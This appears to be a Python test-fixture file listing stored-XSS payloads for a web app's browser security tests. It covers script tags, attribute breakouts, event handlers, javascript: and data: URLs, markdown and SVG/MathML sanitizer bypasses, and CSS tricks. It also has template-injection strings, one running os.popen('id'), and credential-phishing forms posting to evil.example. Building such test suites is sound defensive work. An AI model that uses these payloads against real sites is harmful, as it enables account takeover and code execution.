"""Stored-XSS payloads for the browser tests: each would call alert() or set a global if it ran.

Grouped by kind. The 88 inputs of test_markdown_xss.py come first, unchanged; the rest are
added here. Every string goes through each text field a user controls (test_xss_browser.py).
"""

from __future__ import annotations

from tests.security.test_markdown_xss import HOSTILE

JS_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

SCRIPT_TAGS = [
    "<script>window.__xss=1</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    '<script src="data:text/javascript,alert(3)"></script>',
    "<script type=module>alert(4)</script>",
    "<script>setTimeout('alert(5)')</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script\n>alert(6)</script\n>",
    "<script/x>alert(7)</script>",
    "</script><script>alert(8)</script>",
    "<svg><script href=data:,alert(9) />",
]

# Breaking out of the element or attribute the text is echoed into.
BREAKOUTS = [
    '"><script>alert(10)</script>',
    "'><script>alert(11)</script>",
    '"><img src=x onerror=alert(12)>',
    "'><img src=x onerror=alert(13)>",
    '" autofocus onfocus="alert(14)" x="',
    "' autofocus onfocus='alert(15)' x='",
    '" onmouseover=alert(16) x="',
    "</title><script>alert(17)</script>",
    "</textarea><script>alert(18)</script>",
    "</textarea><img src=x onerror=alert(19)>",
    "</style><script>alert(20)</script>",
    "</noscript><script>alert(21)</script>",
    "</option></select><img src=x onerror=alert(22)>",
    "</mark><img src=x onerror=alert(23)><mark>",
    "--><img src=x onerror=alert(24)>",
    "]]><img src=x onerror=alert(25)>",
]

EVENT_HANDLERS = [
    "<svg/onload=alert(30)>",
    "<body/onload=alert(31)>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=x oNeRrOr=alert(32)>",
    "<img src=x onerror=alert&#40;33&#41;>",
    "<img src=x onerror=\\u0061lert(34)>",
    "<img\nsrc=x\nonerror=alert(35)>",
    "<img src=x onerror\t=alert(36)>",
    "<img/src=x/onerror=alert(37)>",
    "<img src=1 onerror=top.__xss=1>",
    "<input autofocus onfocus=alert(38)>",
    "<select autofocus onfocus=alert(39)></select>",
    "<textarea autofocus onfocus=alert(40)></textarea>",
    "<keygen autofocus onfocus=alert(41)>",
    "<video src=x onerror=alert(42)></video>",
    "<iframe onload=alert(43)></iframe>",
    "<object data=x onerror=alert(44)></object>",
    "<details ontoggle=alert(45) open>x</details>",
    "<body onpageshow=alert(46)>",
    '<div style="animation-name:spin" onanimationstart=alert(47)>x</div>',
    "<input onblur=alert(48) autofocus><input autofocus>",
    "<a id=x tabindex=1 onfocus=alert(49) autofocus>x</a>",
    "<img src=x:x onerror=alert(50)//",
    "<link rel=preload href=x onload=alert(51)>",
]

# javascript:, data: and vbscript: URLs in every casing and encoding.
URL_SCHEMES = [
    "[x](javascript:window.__xss=1)",
    "[x](javascript&colon;alert(60))",
    "[x](&#106;avascript:alert(61))",
    "[x](%6Aavascript:alert(62))",
    "[x](java%0ascript:alert(63))",
    "[x](java\tscript:alert(64))",
    "[x](JAVASCRIPT:alert(65))",
    "[x](javascript://%0aalert(66))",
    "[x]( javascript:alert(67))",
    "[x](%20javascript:alert(68))",
    "[x](java\x00script:alert(69))",
    '<a href="java\x00script:alert(70)">x</a>',
    '<a href="javascript://%0aalert(71)">x</a>',
    '<a href="  &#x6a;avascript:alert(72)">x</a>',
    '<a href="&#x01;javascript:alert(73)">x</a>',
    '<a href="jav&#x09;ascript:alert(74)">x</a>',
    '<a href="javascript&#58alert(75)">x</a>',
    '<a href="jav&NewLine;ascript&colon;alert(76)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(77)">x</a>',
    "<a href=javascript:alert(78)>x</a>",
    '<a href="javascript:alert(79)" target=_blank>x</a>',
    f'<a href="data:text/html;base64,{JS_B64}">x</a>',
    "[x](data:text/html,<script>alert(80)</script>)",
    f"[x](DaTa:text/html;base64,{JS_B64})",
    "[x](data:text/javascript,alert(81))",
    "[x](vbscript:alert(82))",
    '<a href="vBsCrIpT:alert(83)">x</a>',
    '<a href="livescript:alert(84)">x</a>',
    '<a href="feed:javascript:alert(85)">x</a>',
    '<img src="javascript:alert(86)">',
    '<img dynsrc="javascript:alert(87)" lowsrc="javascript:alert(87)">',
    '<area href="javascript:alert(88)">',
    '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
]

MARKDOWN_TRICKS = [
    '[x][a]\n\n[a]: javascript:alert(90) "title"',
    "[x][b]\n\n[b]: <javascript:alert(91)>",
    "![x][c]\n\n[c]: javascript:alert(92)",
    "<JAVASCRIPT:alert(93)>",
    "<vbscript:alert(94)>",
    f"<data:text/html;base64,{JS_B64}>",
    "javascript:alert(95)",
    'www.example.com/"onmouseover="alert(96)',
    "https://example.com/<img src=x onerror=alert(97)>",
    '![x](x "onerror=alert(98)")',
    '![x" onerror="alert(99)](x)',
    '![x](x" onerror="alert(100))',
    '[x](https://example.com "\\"onmouseover=\\"alert(101)")',
    "[<img src=x onerror=alert(102)>](https://example.com)",
    "![<img src=x onerror=alert(103)>](x)",
    "[x](https://example.com)<img src=x onerror=alert(104)>",
    '# x" onmouseover="alert(105)',
    "## <img src=x onerror=alert(106)>",
    '[^x"><img src=x onerror=alert(107)>]\n\n[^x"><img src=x onerror=alert(107)>]: y',
    '```js" onmouseover="alert(108)\nx\n```',
    "| a |\n|:--|\n| [x](javascript:alert(109)) |",
    "- [x] <img src=x onerror=alert(110)>",
    '[x](#" onclick="alert(111))',
    '<a href="#" onclick="alert(112)">x</a>',
    "*<img src=x onerror=alert(113)>*",
    "> <svg onload=alert(114)>",
    "    <script>alert(115)</script>",
    "<details><summary>x</summary><img src=x onerror=alert(116)></details>",
]

SVG_MATHML = [
    "<svg><animate onbegin=alert(120) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(121)>",
    "<svg><foreignObject><img src=x onerror=alert(122)></foreignObject></svg>",
    "<svg><image href=x onerror=alert(123)>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22>'
    '<image href=1 onerror=alert(124) /></svg>#x"></use></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(125)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(126)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(127)>">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(128)>"></style></h1>',
    '<noscript><img title="</noscript><img src=x onerror=alert(129)>"></noscript>',
    "<svg><desc><template><img src=x onerror=alert(130)></template></desc></svg>",
    '<math><a xlink:href="javascript:alert(131)">x</a></math>',
]

CSS = [
    '<div style="background-image:url(javascript:alert(140))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(x.xml#xss)">x</div>',
    "<style>@import 'javascript:alert(141)';</style>",
    "<style>*{x:expression(alert(142))}</style>",
    '<div style="width:expr/**/ession(alert(143))">x</div>',
    '<div style="x:\\65xpression(alert(144))">x</div>',
    '<link rel=stylesheet href="data:text/css,*{background:url(javascript:alert(145))}">',
    '<style>body{background:url("data:image/svg+xml,<svg onload=alert(146)>")}</style>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert(150)",
    '<img src="x\n" onerror="alert(151)">',
    "<<img src=x onerror=alert(152)>>",
    "<img src=`x`onerror=alert(153)>",
    '<a href="x">unclosed <b>bold "><script>alert(154)</script>',
    "<!-- --!><img src=x onerror=alert(155)> -->",
    "<![CDATA[<img src=x onerror=alert(156)>]]>",
    '<?xml version="1.0"?><img src=x onerror=alert(157)>',
    "<!DOCTYPE html><img src=x onerror=alert(158)>",
    "<div <img src=x onerror=alert(159)>>",
    '<p title="</p><img src=x onerror=alert(160)>">',
    "<a title='`'><img src=x onerror=alert(161)>",
    "<table><tr><td><img src=x onerror=alert(162)></table>",
    "<select><template><img src=x onerror=alert(163)></template></select>",
    "<img src=x onerror=alert(164)//<",
    "<scr\x00ipt>alert(165)</scr\x00ipt>",
]

ENTITIES = [
    "&lt;script&gt;alert(170)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(171)&#62;",
    "&amp;lt;script&amp;gt;alert(172)&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ealert(173)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(174)%3C/script%3E",
    "&#x3C;svg onload=alert(175)&#x3E;",
    "\uff1cscript\uff1ealert(176)\uff1c/script\uff1e",
    "\u2028<script>alert(177)</script>",
    "&#0000060script&#0000062alert(178)&#0000060/script&#0000062",
]

# Must come out as the same text: never evaluated by Jinja, JavaScript or anything else.
TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{1337*1000}}",
    "${1337*1000}",
    "#{1337*1000}",
    "<%= 1337*1000 %>",
    "[[${1337*1000}]]",
    "{{config}}",
    "{{config.SECRET_KEY}}",
    "{{ self.__init__.__globals__ }}",
    "{% raw %}{{1337*1000}}{% endraw %}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{constructor.constructor('alert(180)')()}}",
    "<div ng-app>{{constructor.constructor('alert(181)')()}}</div>",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(182)')}}",
]
TEMPLATE_RESULTS = ("1337000",)  # what the expressions above would print if evaluated

FRAMES_AND_FORMS = [
    '<iframe src="javascript:parent.__xss=1"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,<script>alert(190)</script>"></object>',
    '<embed src="data:text/html,<script>alert(191)</script>">',
    '<embed src="javascript:alert(192)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(193)</script>">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
    "<form id=f></form><button form=f formaction=javascript:alert(194)>x</button>",
    '<frameset><frame src="javascript:alert(195)"></frameset>',
    '<portal src="javascript:alert(196)"></portal>',
    '<applet code="javascript:alert(197)"></applet>',
    "<isindex formaction=javascript:alert(198) type=submit>",
    '<link rel=import href="data:text/html,<script>alert(199)</script>">',
    '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
]

PAYLOADS: list[str] = list(
    dict.fromkeys(
        HOSTILE
        + SCRIPT_TAGS
        + BREAKOUTS
        + EVENT_HANDLERS
        + URL_SCHEMES
        + MARKDOWN_TRICKS
        + SVG_MATHML
        + CSS
        + BROKEN_MARKUP
        + ENTITIES
        + TEMPLATE_INJECTION
        + FRAMES_AND_FORMS
    )
)
